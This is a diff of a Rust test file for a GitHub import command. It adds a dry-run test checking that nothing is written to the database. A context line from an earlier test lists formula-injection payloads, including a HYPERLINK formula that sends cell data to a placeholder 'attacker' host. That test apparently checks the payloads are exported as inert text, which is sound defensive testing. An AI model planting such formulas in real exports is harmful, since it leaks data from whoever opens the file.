@@ -407,3 +407,35 @@ fn hostile_titles_from_github_reach_a_spreadsheet_as_text_and_round_trip() {
          ['+1 on checkout', '-2 refunds', '=HYPERLINK(\"https://attacker/?\"&A2,\"click\")', '@channel login']\n"
     );
 }
+
+#[test]
+fn a_dry_run_of_a_new_repository_counts_the_bugs_the_import_would_insert() {
+    let db = demo("github_dry_run");
+    let dir = tempfile::tempdir().unwrap();
+    let repos = dir.path().join("repos.json");
+    std::fs::write(
+        &repos,
+        json!([{"full_name": "acme/api", "name": "api", "created_at": "2026-01-01T00:00:00Z"}]).to_string(),
+    )
+    .unwrap();
+    let issues = dir.path().join("issues.json");
+    let open = [issue(1, "open", None, &["bug"], None), issue(2, "open", None, &["p1"], None)];
+    std::fs::write(&issues, Value::Array(open.to_vec()).to_string()).unwrap();
+    let before = db.fingerprint(&["projects", "bugs", "import_logs"]);
+    let out = db.ctodb(&[
+        "import",
+        "github",
+        "--repos",
+        repos.to_str().unwrap(),
+        "--issues",
+        issues.to_str().unwrap(),
+        "--dry-run",
+        "-f",
+        "csv",
+    ]);
+    let stdout = out.ok();
+    assert!(stdout.contains(",projects,true,1,1,0,0,0"), "{stdout}");
+    assert!(stdout.contains(",bugs,true,2,2,0,0,0"), "{stdout}");
+    assert!(!out.stderr_text().contains("--repos"), "{}", out.stderr_text());
+    assert_eq!(db.fingerprint(&["projects", "bugs", "import_logs"]), before, "a dry run wrote something");
+}
